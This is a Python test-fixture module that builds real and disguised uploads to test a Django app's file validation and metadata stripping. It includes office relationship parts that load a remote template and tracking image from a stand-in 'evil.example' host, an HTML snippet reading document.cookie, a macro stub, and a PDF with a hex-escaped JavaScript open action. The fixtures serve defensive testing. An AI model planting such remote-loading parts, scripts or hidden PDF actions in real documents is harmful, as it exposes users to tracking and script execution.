"""Real and disguised documents for the upload tests of every app."""

import io
import struct
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, StreamObject

EXECUTABLE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run"
)
NAME = "Aigerim Seitova"  # the author a document must not betray
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
# Relationship parts of office documents that load something from outside on opening.
RELATIONSHIPS = {
    name: f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{line}</Relationships>'
    for name, line in {
        "remote template": f'<Relationship Id="r1" Type="{RELS}/attachedTemplate" '
        'Target="http://evil.example/t.dotm" TargetMode="External"/>',
        "linked object": f'<Relationship Id="r2" Type="{RELS}/oleObject" Target="file:///C:/x.xls" '
        'TargetMode="External"/>',
        "remote image": f"<Relationship Id='r3' Type='{RELS}/image' Target='http://evil.example/pixel.png' "
        "TargetMode='External'/>",
    }.items()
}
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def pdf_bytes():
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def docx_bytes(*, macros=False):
    members = {
        "[Content_Types].xml": '<?xml version="1.0"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        "word/document.xml": '<?xml version="1.0"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>Акт</w:t></w:r></w:p></w:body></w:document>",
    }
    if macros:
        members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0"
    return zip_bytes(members)


def pptx_bytes():
    return zip_bytes({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p:presentation/>"})


def opendocument_bytes(mimetype="application/vnd.oasis.opendocument.text"):
    return zip_bytes({"mimetype": mimetype, "content.xml": "<office:document-content/>"})


def zip_with_a_mimetype_zipfile_cannot_read(damage):
    """An ODT whose mimetype member is "encrypted", packed with an "unknown method" or "damaged"."""
    content = bytearray(opendocument_bytes())
    central = content.find(b"PK\x01\x02")  # the entry of the first member, mimetype
    if damage == "encrypted":
        content[6] |= 1
        content[central + 8] |= 1
    elif damage == "unknown method":
        content[8:10] = content[central + 10 : central + 12] = struct.pack("<H", 99)
    else:  # the deflated bytes of the member, after its 30-byte header and 8-byte name
        content[38] ^= 0xFF
        content[39] ^= 0xFF
    return bytes(content)


def xlsx_bytes():
    workbook = Workbook()
    workbook.active.append(["Indicator", 42])
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def zip_bytes(members=None):
    """A zip archive of the given members (name -> text or bytes); by default one that is no document."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (members or {"readme.txt": "not a document"}).items():
            archive.writestr(name, content)
    return output.getvalue()


def image_bytes(fmt="PNG"):
    output = io.BytesIO()
    Image.new("RGB", (4, 4), "green").save(output, fmt)
    return output.getvalue()


def upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def photo_with_gps(fmt="JPEG"):
    """A picture as a phone saves it: camera make and GPS position in EXIF, an XMP packet for JPEG."""
    from PIL import ExifTags

    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "SecretCam"
    exif[ExifTags.Base.Orientation] = 6  # taken sideways: the cleaned picture must be turned upright
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef], gps[ExifTags.GPS.GPSLatitude] = "N", (43.0, 14.0, 17.0)
    gps[ExifTags.GPS.GPSLongitudeRef], gps[ExifTags.GPS.GPSLongitude] = "E", (76.0, 53.0, 42.0)
    output = io.BytesIO()
    extra = {"xmp": b'<x:xmpmeta xmlns:x="adobe:ns:meta/">Author: Reporter</x:xmpmeta>'} if fmt == "JPEG" else {}
    Image.new("RGB", (6, 4), "green").save(output, fmt, exif=exif.tobytes(), **extra)
    return output.getvalue()


def assert_no_metadata(content):
    """No EXIF (so no GPS, no camera), no XMP, no comment survives in a stored image."""
    with Image.open(io.BytesIO(content)) as image:
        assert not image.getexif(), dict(image.getexif())
        assert not {"exif", "xmp", "XML:com.adobe.xmp", "comment"} & set(image.info)
    assert b"SecretCam" not in content and b"Reporter" not in content


def pdf_with(author=None, xmp=None, open_action=None):
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if author:
        writer.add_metadata({"/Author": author, "/Creator": author})
    if xmp:
        stream = StreamObject()
        stream.set_data(xmp)
        writer._root_object[NameObject("/Metadata")] = writer._add_object(stream)
    if open_action:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(open_action)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def docx_with(extra):
    base = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    members = {name: base.read(name) for name in base.namelist()}
    return zip_bytes({**members, **extra})


def docx_with_authors():
    """A DOCX as Word saves it: author and last editor in the core properties, the company in the app
    properties, a comment with its author's name and initials."""
    return docx_with(
        {
            "docProps/core.xml": '<cp:coreProperties xmlns:cp="cp" xmlns:dc="dc">'
            f"<dc:creator>{NAME}</dc:creator><cp:lastModifiedBy>{NAME}</cp:lastModifiedBy></cp:coreProperties>",
            "docProps/app.xml": f"<Properties><Company>{NAME} LLP</Company></Properties>",
            "word/comments.xml": f'<w:comments xmlns:w="w"><w:comment w:id="0" w:author="{NAME}" w:initials="AS">'
            "<w:p/></w:comment></w:comments>",
        }
    )


def pdf_with_author():
    """A PDF naming its author in the Info dictionary and in an XMP packet."""
    return pdf_with(author=NAME, xmp=f"<x:xmpmeta><dc:creator>{NAME}</dc:creator></x:xmpmeta>".encode())


def unpacked(content):
    """The bytes of a document as a reader sees them: every member of an office document's archive
    (packed, a name would not show in the file's own bytes), or the file itself."""
    if not content.startswith(b"PK"):
        return content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"\n".join(archive.read(name) for name in archive.namelist())


def assert_no_author(content):
    """No author's name, initials or XMP survives in a stored document, and it is still a document."""
    assert NAME.encode() not in unpacked(content) and b'"AS"' not in unpacked(content)
    if content.startswith(b"%PDF-"):
        reader = PdfReader(io.BytesIO(content))
        assert not reader.metadata and "/Metadata" not in reader.trailer["/Root"] and len(reader.pages) == 1
    else:
        assert "word/document.xml" in zipfile.ZipFile(io.BytesIO(content)).namelist()


def scripted_pdf(action="/JavaScript", hidden_as="/J#61vaScript"):
    """A PDF that runs an action when opened, its name spelled with a #-hex escape."""
    from pypdf.generic import TextStringObject

    open_action = {NameObject("/S"): NameObject(action), NameObject("/JS"): TextStringObject("app.alert(1)")}
    return pdf_with(open_action=open_action).replace(action.encode(), hidden_as.encode())
